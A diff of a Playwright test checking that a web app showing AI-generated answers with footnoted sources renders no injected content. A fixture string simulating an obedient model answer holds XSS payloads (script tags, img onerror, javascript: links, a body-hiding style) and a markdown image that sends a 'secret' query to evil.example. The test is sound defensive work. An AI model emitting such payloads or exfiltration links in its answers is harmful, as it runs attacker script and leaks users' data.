@@ -18,7 +18,9 @@ OBEDIENT = (
     '{fact} [1] ![map](https://evil.example/m.png?q=secret) <img src="https://evil.example/i.png" onerror="alert(1)">'
     " <script>alert(2)</script> ${{alert(3)}} [more](javascript:alert(4)) <style>body{{display:none}}</style>"
 )
-INSIDE = ", ".join(f"{place} {tag}" for place in ("#talk", "#passages") for tag in ("img", "script", "iframe", "style"))
+INSIDE = ", ".join(
+    f"{place} {tag}" for place in ("#past", "#current", "#passages") for tag in ("img", "script", "iframe", "style")
+)
 
 
 @pytest.fixture(scope="module")
@@ -60,14 +62,10 @@ def test_nothing_of_documents_model_or_question_acts_in_the_page(watched: Page, 
         answer = watched.locator(".footnote-answer").last
         expect(answer).to_contain_text(one.harmless_fact.rstrip("."))
         expect(watched.locator(INSIDE)).to_have_count(0)
-        expect(watched.locator("#talk .footnote-answer a:not(.footnote-mark, .footnote-source)")).to_have_count(0)
+        expect(answer.locator("a:not([href^='/source/'], [href^='/answer/'])")).to_have_count(0)
         assert len(model.requests) == 2 * number - 1
-        with watched.context.expect_page() as opened:
-            answer.locator("a.footnote-mark").first.click(modifiers=["Control"])
-        source = opened.value
-        expect(source.locator("mark#quote")).to_have_text(one.harmless_fact)
-        expect(source.locator("main img, main script, main iframe, main style, main a:not([href='/'])")).to_have_count(
-            0
-        )
-        source.close()
+        answer.locator("a.footnote-mark").first.click()
+        source = watched.locator("#source-view")
+        expect(source.locator("mark.active")).to_have_text(one.harmless_fact)
+        expect(source.locator("img, script, iframe, style")).to_have_count(0)
     expect(watched.locator("#question textarea")).to_be_visible()
